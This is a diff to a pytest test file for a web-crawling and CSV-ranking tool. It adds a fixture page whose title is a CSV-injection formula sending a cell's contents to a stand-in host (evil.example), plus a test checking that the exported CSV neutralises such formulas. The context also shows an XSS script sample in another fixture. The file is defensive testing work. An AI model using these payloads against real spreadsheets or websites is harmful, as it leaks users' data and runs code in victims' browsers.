@@ -31,6 +31,14 @@ Członkowie wspólnie prowadzą sklep z lokalną żywnością i warsztaty napraw
 &lt;script&gt;window.__pwned = 1; alert("x")&lt;/script&gt; Walne zgromadzenie członków podejmuje decyzje.</p>
 </main></body></html>"""
 
+# crawled text that a spreadsheet would run as a formula (CSV injection)
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Klaster")'
+PLANTED_FORMULA = f"""<html lang="pl"><head><meta charset="utf-8"><title>{FORMULA_TITLE.replace('"', '&quot;')}</title>
+<link rel="canonical" href="https://formula-siec.pl/"></head><body><main>
+<p>Klaster Społeczny Formuła łączy spółdzielnie socjalne, gminę, szkołę zawodową i lokalne firmy, które
+wspólnie prowadzą pralnię i zatrudniają osoby długotrwale bezrobotne z regionu.</p>
+</main></body></html>"""
+
 
 @pytest.fixture(scope="module")
 def result(tmp_path_factory):
@@ -39,6 +47,8 @@ def result(tmp_path_factory):
         shutil.copytree(WEB / site, root / site)
     (root / "siec-nadnotecka.pl").mkdir()
     (root / "siec-nadnotecka.pl" / "index.html").write_text(PLANTED, encoding="utf-8")
+    (root / "formula-siec.pl").mkdir()
+    (root / "formula-siec.pl" / "index.html").write_text(PLANTED_FORMULA, encoding="utf-8")
     (root / "short.txt").write_text("Krótka notatka o niczym szczególnym, bez żadnych słów kluczowych.",
                                     encoding="utf-8")
     out = tmp_path_factory.mktemp("tagout")
@@ -82,6 +92,17 @@ def test_csei_outranks_hard_negatives(result):
     for comp in ("classifier", "criteria", "helix", "social_ecological", "self_designation", "territorial",
                  "known_similarity"):
         assert 0.0 <= float(top[comp]) <= 1.0
+
+
+def test_candidates_csv_neutralises_crawled_formulas(result):
+    with open(result / "candidates.csv", newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    planted = next(r for r in rows if r["site"] == "formula-siec.pl")
+    assert planted["name"] == "'" + FORMULA_TITLE  # shown as text, never run
+    for r in rows:  # no cell of any row would be evaluated; the product's numbers stay numbers
+        for k, v in r.items():
+            assert not v.lstrip().startswith(("=", "+", "-", "@")) or v.lstrip("+-").replace(".", "").isdigit(), (k, v)
+        float(r["score"]), int(r["rank"])
 
 
 def test_evidence_offsets_point_into_the_document(result):
